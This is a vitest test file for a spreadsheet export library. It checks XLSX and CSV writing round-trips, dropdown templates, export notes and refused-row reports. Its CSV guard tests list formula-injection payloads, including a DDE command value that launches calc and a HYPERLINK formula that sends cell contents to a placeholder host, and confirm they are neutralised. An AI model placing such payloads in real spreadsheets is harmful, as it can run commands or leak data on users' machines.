import { readFileSync } from 'node:fs';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SheetColumn } from './sheet.ts';
import { streamCsv } from './hucre-adapter.ts';
import { readTable } from './read-table.ts';
import { csvCell, writeCsv } from './write-csv.ts';
import { writeExport, writeFailedRows, writeTemplate } from './write-template.ts';
import { safeSheetName, writeWorkbook } from './write-workbook.ts';

let folder = '';
beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), 'excel-test-'))));
afterAll(() => rm(folder, { recursive: true }));

function column(key: string, label: string, more: Partial<SheetColumn> = {}): SheetColumn {
  return { key, label, aliases: [], kind: 'text', required: false, ...more };
}

const LONG_LIST = Array.from({ length: 90 }, (_, index) => ({ code: `c${index}`, label: `选项，第${index}项` }));
const COLUMNS: SheetColumn[] = [
  column('name', '姓名', { required: true, help: '与证件一致' }),
  column('idNumber', '证件号码', { identifier: true }),
  column('sex', '性别', {
    kind: 'choice',
    options: [
      { code: '1', label: '男' },
      { code: '2', label: '女' },
    ],
  }),
  column('major', '专业', { kind: 'choice', options: LONG_LIST }),
  column('labels', '标签', {
    kind: 'choices',
    options: [
      { code: 'a', label: '甲' },
      { code: 'b', label: '乙' },
    ],
  }),
  column('birthday', '出生日期', { kind: 'date' }),
  column('graduation', '毕业年月', { kind: 'month' }),
  column('pay', '工资', { kind: 'number' }),
  column('count', '人数', { kind: 'integer' }),
  column('married', '已婚', { kind: 'boolean' }),
];
const ROWS = [
  {
    name: '=1+1',
    idNumber: '330106199003074517',
    sex: '1',
    major: 'c42',
    labels: ['a', 'b'],
    birthday: '1990-03-07',
    graduation: '2012-07',
    pay: -12.5,
    count: 3,
    married: true,
  },
  { name: '<&>"\' _x0041_\n第二行 𠮷', idNumber: '+8613800000000', birthday: '2024-02-29', married: false },
  { name: '@SUM(A1)', pay: 1234567.89 },
];

describe('writeWorkbook', () => {
  it('writes what readTable reads back equal', async () => {
    const stream = new PassThrough();
    const [bytes, counts] = await Promise.all([
      buffer(stream),
      writeWorkbook(stream, [{ name: '名单', columns: COLUMNS, rows: ROWS }]),
    ]);
    expect(counts).toEqual([3]);
    const table = await readTable(bytes, 'a.xlsx', COLUMNS);
    expect(table.rows.map(({ values }) => values)).toEqual(ROWS);
    expect(table.rows.flatMap(({ issues }) => issues)).toEqual([]);
  });

  it('stores texts that look like formulas as text, digits as text, dates as dates', async () => {
    const path = join(folder, 'cells.xlsx');
    await writeWorkbook(path, [{ name: '名单', columns: COLUMNS, rows: ROWS }]);
    const xml = partOf(await readFile(path), 'xl/worksheets/sheet1.xml');
    expect(xml).not.toContain('<f>');
    // No thousands separators, neither of our own nor of Excel's formats 3, 4 and 37 to 44: a year is an integer too.
    const styles = partOf(await readFile(path), 'xl/styles.xml');
    expect(styles).toContain('numFmtId=');
    expect(styles).not.toMatch(/formatCode="[^"]*,|<xf [^>]*numFmtId="(?:3|4|3[7-9]|4[0-4])"/u);
    expect(xml).toMatch(/<c r="A2" s="\d+" t="inlineStr"><is><t xml:space="preserve">=1\+1</);
    expect(xml).toMatch(/<c r="B2" s="\d+" t="inlineStr">/);
    expect(xml).toMatch(/<c r="F2" s="\d+"><v>32939<\/v>/);
    expect(xml).toContain('<autoFilter ref="A1:J4"/>');
    expect(xml).toContain('state="frozen"');
    expect(xml).not.toContain('<dimension');
  });

  it('removes the half-written file when the rows fail', async () => {
    const path = join(folder, 'failed.xlsx');
    await expect(writeWorkbook(path, [{ name: 'a', columns: COLUMNS, rows: breakingRows() }])).rejects.toThrow(
      'the cursor broke',
    );
    await expect(stat(path)).rejects.toThrow('ENOENT');
  });

  it('makes names that Excel accepts for tabs', () => {
    expect(safeSheetName("'a/b:c*[d]?'")).toBe('a b c  d');
    expect(safeSheetName('')).toBe('Sheet');
    expect(Array.from(safeSheetName('很'.repeat(40)))).toHaveLength(31);
  });
});

describe('templates, exports and refused rows', () => {
  it('writes a template with dropdowns, text columns and instructions, that reads as empty', async () => {
    const path = join(folder, 'template.xlsx');
    await writeTemplate(path, [{ name: '花名册', columns: COLUMNS }]);
    const bytes = await readFile(path);
    const xml = partOf(bytes, 'xl/worksheets/sheet1.xml');
    expect(xml).toContain('<formula1>"男,女"</formula1>');
    expect(xml).toContain("<formula1>'选项'!$A$1:$A$90</formula1>");
    expect(xml).toMatch(/<col min="2" style="\d+"/);
    expect(partOf(bytes, 'xl/workbook.xml')).toMatch(/name="选项"[^>]*state="hidden"/);
    const table = await readTable(path, 'a.xlsx', COLUMNS);
    expect(table).toMatchObject({
      sheetName: '花名册',
      sheetNames: ['花名册', '填写说明', '选项'],
      missingRequired: [],
      unknownColumns: [],
      rows: [],
    });
  });

  it('ends an export with who took what and when', async () => {
    const path = join(folder, 'export.xlsx');
    await writeExport(path, [{ name: '名单', columns: COLUMNS, rows: ROWS }], {
      exportedBy: '王芳',
      exportedAt: '2026/11/20 10:30',
      filter: '部门：研发',
    });
    const note = await readTable(path, 'a.xlsx', [column('item', '项目'), column('text', '内容')], {
      sheetName: '导出说明',
    });
    expect(note.rows.map(({ values }) => [values['item'], values['text']])).toEqual([
      ['导出人', '王芳'],
      ['导出时间', '2026/11/20 10:30'],
      ['筛选条件', '部门：研发'],
    ]);
  });

  it('gives refused rows back as typed, red, with reasons, and finds the same errors again', async () => {
    const source = Buffer.from('姓名,证件号码,出生日期,工资\n,3.30106E+17,去年三月,约三千\n张三,1,2023-02-31,5\n');
    const columns = COLUMNS.filter(({ key }) => ['name', 'idNumber', 'birthday', 'pay'].includes(key));
    const { rows } = await readTable(source, 'a.csv', columns);
    const path = join(folder, 'failed-rows.xlsx');
    await writeFailedRows(path, '失败行', columns, rows);
    const again = await readTable(path, 'a.xlsx', columns);
    expect(again.unknownColumns).toEqual(['错误原因']);
    expect(again.rows.map(({ raw, issues }) => ({ raw, issues }))).toEqual(
      rows.map(({ raw, issues }) => ({ raw, issues })),
    );
    const bytes = await readFile(path);
    expect(partOf(bytes, 'xl/comments1.xml')).toContain('02 月没有 31 日');
    expect(partOf(bytes, 'xl/worksheets/sheet1.xml')).toMatch(/<c r="A2" s="\d+"\/>/);
  });
});

describe('writeCsv', () => {
  it('writes what readTable reads back equal', async () => {
    const path = join(folder, 'a.csv');
    expect(await writeCsv(path, COLUMNS, ROWS)).toBe(3);
    expect(readFileSync(path).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const { rows } = await readTable(path, 'a.csv', COLUMNS);
    expect(rows.map(({ values }) => values)).toEqual(ROWS);
  });

  it.each([
    '=1+1',
    '@SUM(A1:A2)',
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    '\t=1+1',
    '\r=1+1',
    '＝1＋1',
    "=cmd|' /C calc'!A0",
    '-1+cmd',
    '+A1',
  ])('guards %j and gives it back when read', (text) => {
    const cell = csvCell(text);
    expect(cell.replace(/^"/, '')).toMatch(/^'/);
    const [row] = streamCsv(`${cell},x\r\n`, ',');
    expect(row?.cells[0]).toBe(text);
  });

  it.each(['+86 13800000000', '-5', '-12.50', '+1 (415) 555-0100', '张三', '2026/11/17'])(
    'leaves %j as it is',
    (text) => {
      expect(csvCell(text)).toBe(text);
    },
  );
});

function partOf(bytes: Uint8Array, name: string): string {
  return strFromU8(unzipSync(bytes)[name] ?? new Uint8Array(0));
}

function* breakingRows(): Generator<Record<string, unknown>> {
  yield ROWS[0] ?? {};
  throw new Error('the cursor broke');
}
